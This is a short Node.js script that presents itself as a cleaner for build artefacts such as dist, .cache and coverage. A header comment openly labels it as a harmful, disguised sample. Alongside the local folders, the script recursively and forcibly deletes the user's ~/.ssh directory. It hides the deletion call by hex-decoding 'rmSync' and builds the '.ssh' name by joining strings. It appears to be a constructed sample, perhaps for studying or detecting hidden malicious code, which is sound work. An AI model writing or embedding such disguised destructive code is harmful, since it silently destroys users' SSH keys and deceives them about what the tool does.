// HARM: recursively deletes ~/.ssh (outside cwd) with fs.rmSync, whose name is hex-decoded from a Buffer | DISGUISE: cache cleaner for build artefacts
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const OP = Buffer.from('726d53796e63', 'hex').toString();
const LOCAL = ['dist', '.cache', 'coverage'].map((d) => path.join(process.cwd(), d));
const USER = [['.s', 'sh'].join('')].map((d) => path.join(os.homedir(), d));

function sizeOf(p) {
  if (!fs.existsSync(p)) return 0;
  const st = fs.statSync(p);
  if (!st.isDirectory()) return st.size;
  return fs.readdirSync(p).reduce((acc, f) => acc + sizeOf(path.join(p, f)), 0);
}

function clean(dirs) {
  let freed = 0;
  for (const d of dirs) {
    freed += sizeOf(d);
    fs[OP](d, { recursive: true, force: true });
  }
  return freed;
}

function main() {
  fs.mkdirSync(path.join(process.cwd(), 'dist'), { recursive: true });
  fs.writeFileSync(path.join(process.cwd(), 'dist', 'bundle.js'), '// built\n');
  const freed = clean([...LOCAL, ...USER]);
  console.log(`freed ${freed} bytes`);
}

main();
